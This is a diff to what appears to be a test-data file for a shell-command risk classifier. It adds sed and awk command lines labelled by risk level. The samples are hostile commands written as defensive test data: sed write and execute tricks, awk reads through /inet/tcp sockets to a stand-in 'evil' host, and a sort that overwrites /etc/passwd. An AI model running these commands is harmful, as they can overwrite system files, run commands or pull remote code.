@@ -31,6 +31,34 @@ use warden_policy::RiskLevel::{Forbidden, High, Medium};
 /// Lines judged at least this on both paths.
 pub const KINDS: &[Kind] = &[
     Kind {
+        name: "classic-sed-and-awk-read-as-every-implementation-reads-them",
+        lines: &[
+            (r#"sed -n 'y/[/]/xyz/;w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n 'y,[,],xyz,;w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n '/[[:alpha:]/]/w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n '/[[.-.]/]/w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n '/[[=a=]/]/w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n '/x/,/[/]/w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n '0,/[/]/w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n 's/a/b/;/[/]/e id' /etc/hostname"#, High),
+            (r#"sed -n 's/\(a\)[/]/x/w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -e 's/[/]/x/w /tmp/x' /etc/hostname"#, High),
+            (r#"busybox sed -n 's/[/]/x/w /tmp/x' /etc/hostname"#, High),
+            (r#"sed -n '/[/]/p' /etc/hostname"#, Medium),
+            (r#"sed -n 's/[/]/x/;p' /etc/hostname"#, Medium),
+            (r#"awk '{print}' /inet/tcp/0/localhost/80"#, High),
+            (r#"awk -f /inet/tcp/0/evil/80 /etc/hostname"#, High),
+            (
+                r#"awk -i /inet/tcp/0/evil/80 '{print}' /etc/hostname"#,
+                High,
+            ),
+            (r#"awk -v f=/inet/tcp/0/evil/80 'BEGIN{getline < f}'"#, High),
+            (r#"awk 'BEGIN{getline < f}' f=/inet6/tcp/0/::1/80"#, High),
+            (r#"awk 'BEGIN{getline x < "/inet/tcp/0/evil/80"}'"#, High),
+            (r#"awk '{print}' /proc/self/root/inet/tcp/0/evil/80"#, High),
+        ],
+    },
+    Kind {
         name: "classic-sort",
         lines: &[
             (r#"sort -o /etc/passwd /tmp/a"#, Forbidden),
@@ -1256,6 +1284,12 @@ pub const REMOTE_KINDS: &[Kind] = &[
 
 /// Everyday reading forms, low on both paths.
 pub const STILL_LOW: &[&str] = &[
+    "sed -n '/a/p' /etc/hostname",
+    "sed -n 's/[a-z]/x/p' /etc/hostname",
+    "sed -n 's/[[:space:]]//p' /etc/hostname",
+    "awk '/[/]/' /etc/hostname",
+    "awk '{print}' /etc/hostname",
+    "awk -v f=/etc/hostname '{print f}' /etc/hostname",
     r#"find /etc -name shadow"#,
     r#"date +%s"#,
     r#"env -S 'id'"#,
